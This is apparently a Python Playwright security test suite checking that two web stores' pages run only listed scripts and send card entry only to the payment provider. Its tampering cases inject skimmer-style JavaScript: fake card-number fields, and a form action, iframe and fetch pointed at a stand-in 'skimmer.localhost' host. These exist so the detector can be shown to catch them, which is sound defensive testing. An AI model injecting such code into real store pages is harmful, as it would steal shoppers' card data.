"""A walk over both stores in two sizes: no page of ours takes a card number, runs or reaches what is not listed."""

from __future__ import annotations

import urllib.parse
import urllib.request
from collections.abc import Iterator

import pytest
from playwright.sync_api import Browser, BrowserContext, Route, expect

from security.canary.page import Allowed, origin_of
from security.canary.watched import Watched
from security.finding import Finding
from security.scripts import inventory
from shop.scope.system import System, running_system
from tests.e2e.shopper import Shopper
from tests.servers.sandbox import CARD

pytestmark = pytest.mark.browser

SIZES = {"desktop": (1280, 900), "phone": (390, 844)}
GUIDES = ("law", "privacy", "terms", "returns", "delivery", "payment", "contact", "company")
SHELVES = (
    ("/", 200),
    ("/en/", 200),
    ("/search?q=a", 200),
    ("/cart", 200),
    ("/card-data", 200),
    *((f"/guide/{name}", 200) for name in GUIDES),
    ("/not/there", 404),
    ("/checkout/nowhere", 404),
)


@pytest.fixture(scope="module")
def system(sqlite_in_folder: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[System]:
    """One running system for the file."""
    with running_system(tmp_path_factory.mktemp("walk"), sqlite_in_folder) as running:
        yield running


@pytest.fixture(params=SIZES)
def watched(request: pytest.FixtureRequest, browser: Browser) -> Iterator[Watched]:
    """A fresh profile in each size."""
    width, height = SIZES[request.param]
    context = browser.new_context(viewport={"width": width, "height": height}, locale="ja-JP")
    yield Watched(context.new_page())
    context.close()


def shelf(system: System, store: str) -> Allowed:
    """What an ordinary page of a store may have: nothing but its own."""
    return Allowed(system.origins[store])


def payment_page(system: System, store: str) -> Allowed:
    """What the payment step may have besides: the token type's fields, and the way to the provider's page."""
    pages = system.sandbox.pages
    return Allowed(
        system.origins[store],
        script=f"{pages}/endive/stripe.js" if store == "style" else "",
        frames=frozenset({pages}) if store == "style" else frozenset(),
        targets=frozenset({pages}),
        is_payment=True,
    )


@pytest.mark.parametrize("store", ["style", "cocomo"])
def test_no_page_of_the_shelves_takes_a_card_or_runs_what_is_not_listed(
    store: str, watched: Watched, system: System
) -> None:
    scripts, origin = inventory.load(), system.origins[store]
    found: dict[str, list[Finding]] = {}
    for path, status in SHELVES:
        assert watched.open(origin + path) == status, path
        assert {origin_of(each.url) for each in watched.executed()} == {origin}, (
            f"no script was seen on {path}"
        )
        found[path] = watched.judge(shelf(system, store), scripts)
    watched.open(origin + "/")
    for kind in ("categories", "products"):
        link = watched.page.locator(f'a[href*="/{kind}/"]').first.get_attribute("href")
        assert watched.open(f"{origin}{link}") == 200
        found[kind] = watched.judge(shelf(system, store), scripts)
    assert {path: findings for path, findings in found.items() if findings} == {}


@pytest.mark.parametrize("store", ["style", "cocomo"])
def test_the_way_to_payment_leads_to_the_provider_and_nowhere_else(
    store: str, watched: Watched, system: System
) -> None:
    scripts, origin, pages = inventory.load(), system.origins[store], system.sandbox.pages
    shopper, found = Shopper(watched.page, origin), dict[str, list[Finding]]()
    watched.open(origin + "/")
    product = watched.page.locator('main a[href*="/products/"]').first.get_attribute("href")
    assert product is not None
    shopper.add(product.rsplit("/", 1)[-1])
    shopper.to_final_page()
    for step in ("/cart", "/checkout", "/checkout/delivery", "/checkout/confirm"):
        assert watched.open(origin + step) == 200
        allowed = payment_page(system, store) if step == "/checkout/confirm" else shelf(system, store)
        found[step] = watched.judge(allowed, scripts)
    watched.begin()
    shopper.confirm()
    if store == "style":
        number = shopper.card_frame().locator('input[autocomplete="cc-number"]')
        expect(number).to_be_visible()
        assert origin_of(watched.page.url) == origin
        assert {origin_of(frame.url) for frame in watched.page.frames} == {origin, pages}
        found["pay"] = watched.judge(payment_page(system, store), scripts)
        assert any(origin_of(each.url) == pages for each in watched.executed()), (
            "the provider's script did not run"
        )
        shopper.pay_in_fields(CARD)
    else:
        watched.page.wait_for_url(pages + "/**")
        address = urllib.parse.urlsplit(watched.page.url)
        assert (origin_of(watched.page.url), address.path.split("/")[1:3]) == (pages, ["c", "pay"])
        shopper.pay_on_page(CARD)
    expect(watched.page.locator("h1")).to_contain_text("ありがとうございます")
    assert watched.open(watched.page.url) == 200
    found["order"] = watched.judge(shelf(system, store), scripts)
    assert {step: findings for step, findings in found.items() if findings} == {}


FIELD = '<input autocomplete="cc-number">'
TAMPERED = {
    "card-field": f"document.body.insertAdjacentHTML('beforeend', '{FIELD}')",
    "card-field by its label": "document.body.insertAdjacentHTML('beforeend',"
    " '<label>カード番号<input id=f3></label>')",
    "card-field by its pattern": "document.body.insertAdjacentHTML('beforeend',"
    " '<input name=f3 inputmode=numeric maxlength=19>')",
    "card-field in an open shadow root": "document.body.appendChild(document.createElement('div'))"
    f".attachShadow({{mode: 'open'}}).innerHTML = '{FIELD}'",
    "card-field in a closed shadow root": "document.body.appendChild(document.createElement('div'))"
    f".attachShadow({{mode: 'closed'}}).innerHTML = '{FIELD}'",
    "card-field in a frame": "new Promise(done => { const frame = document.createElement('iframe');"
    f" frame.srcdoc = '{FIELD}'; frame.onload = done; document.body.append(frame) }})",
    "frame": "document.body.insertAdjacentHTML('beforeend', '<iframe src=\"http://skimmer.localhost:9\"></iframe>')",
    "form-target": "document.forms[0].action = 'http://skimmer.localhost:9/take'",
    "inline-script": "document.body.append(Object.assign(document.createElement('script'), {text: 'window.ran = 2'}))",
    "request": "fetch('http://skimmer.localhost:9/take').catch(() => 0)",
    "integrity": "document.querySelector('script[integrity]').removeAttribute('integrity')",
}


@pytest.fixture
def unprotected(browser: Browser) -> Iterator[BrowserContext]:
    """A profile that does not heed the policy: as if it had been taken off, for only then can these happen."""
    context = browser.new_context(bypass_csp=True)
    yield context
    context.close()


@pytest.mark.parametrize("what", TAMPERED)
def test_a_page_that_was_tampered_with_turns_red_for_the_right_reason(
    what: str, unprotected: BrowserContext, system: System
) -> None:
    watched = Watched(unprotected.new_page())
    assert watched.open(system.origins["style"] + "/") == 200
    before = watched.judge(shelf(system, "style"), inventory.load())

    watched.page.evaluate(TAMPERED[what])

    assert before == []
    rules = {finding.rule for finding in watched.judge(shelf(system, "style"), inventory.load())}
    assert what.split()[0] in rules


def test_a_script_that_the_server_was_made_to_send_turns_red(
    unprotected: BrowserContext, system: System
) -> None:
    watched = Watched(unprotected.new_page())

    host = {"Host": urllib.parse.urlsplit(system.origins["style"]).netloc}
    with urllib.request.urlopen(urllib.request.Request(system.url + "/", headers=host), timeout=10) as answer:
        page = answer.read().decode()
    added = "<script src='data:text/javascript,window.ran=1'></script><script>eval('window.ran=2')</script></body>"

    def altered(route: Route) -> None:
        route.fulfill(body=page.replace("</body>", added), content_type="text/html; charset=utf-8")

    watched.page.route(system.origins["style"] + "/", altered)
    watched.open(system.origins["style"] + "/")
    expect(watched.page.locator("body")).to_be_visible()
    findings = watched.judge(shelf(system, "style"), inventory.load())
    # The one with an address of its own, the one in the page, and the one that this made from a text.
    assert len([each for each in findings if each.rule == "script"]) == 3
